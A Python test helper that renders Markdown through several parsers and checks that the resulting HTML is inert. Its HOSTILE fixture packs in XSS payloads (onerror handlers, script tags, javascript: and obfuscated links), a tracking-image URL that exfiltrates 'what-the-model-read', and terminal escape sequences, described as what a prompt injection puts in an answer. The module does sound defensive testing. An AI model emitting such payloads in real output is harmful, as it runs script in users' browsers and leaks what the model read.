"""Checks that published Markdown carries no active content, whichever parser renders it.

Three readings of the same Markdown: mistune (CommonMark-like, what nbconvert uses; its own URL
filter switched off so it hides nothing from the check), python-markdown (which reads fences in
lists and other edge cases differently), and a "prose" reading in which every fence line is
ignored, as by a renderer that disagrees with us about where a code block starts or ends.
"""

from __future__ import annotations

import html
import re
from html.parser import HTMLParser

import markdown
import mistune

from tests.conftest import TEST_KEY

# What a hostile service (or a prompt injection) puts in an answer.
REMOTE = "http://203.0.113.7/leak.png?q=what-the-model-read"
HOSTILE = f"""# Report

<img src=x onerror="window.__pwned=1;document.title='pwned'">
<script>window.__pwned=2</script>
<iframe src="javascript:window.__pwned=3"></iframe><object data="javascript:1"></object>
<embed src="javascript:1"><svg onload="window.__pwned=4"></svg>
[click me](javascript:window.__pwned=5) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox)
[obfuscated](jav&#x61;script:window.__pwned=6) [spaced]( &#9;javascript:x) [ref link][r] <javascript:x>

[r]: javascript:window.__pwned=7

![tracker]({REMOTE}) <img src=https://203.0.113.7/x.png> ![by reference][r2] ![local](plot.png)

[r2]: https://203.0.113.7/ref.png

<a href="javascript:window.__pwned=8">html link</a> <details open ontoggle="window.__pwned=9">x</details>

Terminal: \x1b]52;c;cHduZWQ=\x07 \x1b[2J \x1b]0;pwned title\x07 \x1b[8mhidden\x1b[0m

Your key is {TEST_KEY}, shouted {TEST_KEY.upper()}, cut {TEST_KEY[:24]}.

Code: `<img src=x onerror=alert(1)>` stays readable.

- in a list
  ```html
  <script>alert("in a fenced list item")</script>
  ```

```python
if a < b and c > d:
    print([x](y) for x in z)
```
"""
HOSTILE_REASONING = "Thinking <img src=x onerror=window.__pwned=10> [r](javascript:x) \x1b]52;c;eA==\x07"


ACTIVE_TAGS = {
    "script", "iframe", "object", "embed", "applet", "frame", "frameset", "base", "link", "meta",
    "form", "svg", "math", "style", "template", "portal",
}
URL_ATTRS = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background", "srcset"}
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")


class _RawURLs(mistune.HTMLRenderer):
    def safe_url(self, url: str) -> str:  # mistune would hide javascript: links; we want to see them
        return html.escape(url)


_MISTUNE = mistune.create_markdown(
    renderer=_RawURLs(escape=False), plugins=["table", "strikethrough", "url"]
)
_FENCE_LINE = re.compile(r"(?m)^ *(`{3,}|~{3,}).*$")


def readings(md: str) -> dict[str, str]:
    """The HTML of ``md`` under each reading."""
    prose = _FENCE_LINE.sub("", md)
    return {
        "mistune": _MISTUNE(md),
        "python-markdown": markdown.markdown(md, extensions=["fenced_code", "tables"]),
        "prose (fences ignored)": _MISTUNE(prose),
        "prose, python-markdown": markdown.markdown(prose, extensions=["tables"]),
    }


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def parse(page: str) -> _Collect:
    c = _Collect()
    c.feed(page)
    c.close()
    return c


def _url(value: str) -> str:
    return re.sub(r"[\x00-\x20\x7f]", "", html.unescape(value)).lower()


def active_content(page: str, allow_remote_images: bool = False) -> list[str]:
    """What in this HTML could run, load or navigate to script: empty when it is inert."""
    found = []
    for tag, attrs in parse(page).tags:
        if tag in ACTIVE_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs.items():
            if name.startswith("on"):
                found.append(f"<{tag} {name}=>")
            if name in URL_ATTRS and _url(value).startswith(BAD_SCHEMES):
                found.append(f"<{tag} {name}={value!r}>")
        src = _url(attrs.get("src", ""))
        if tag in ("img", "video", "audio", "source", "input", "image") and src:
            if (src.startswith(("http:", "https:", "//", "\\", "/\\")) or ":" in src.split("/")[0]) and not (
                allow_remote_images and src.startswith(("http:", "https:"))
            ):
                found.append(f"<{tag} src={src!r}> (a remote load)")
    return found


def assert_inert(md: str, where: str = "", allow_remote_images: bool = False) -> None:
    for reading, page in readings(md).items():
        bad = active_content(page, allow_remote_images)
        assert not bad, f"active content in {where} read by {reading}: {bad}\n{md}\n--- html:\n{page}"


def visible_text(md: str) -> str:
    """The text a person reads in the (mistune) rendering."""
    return "".join(parse(_MISTUNE(md)).text)
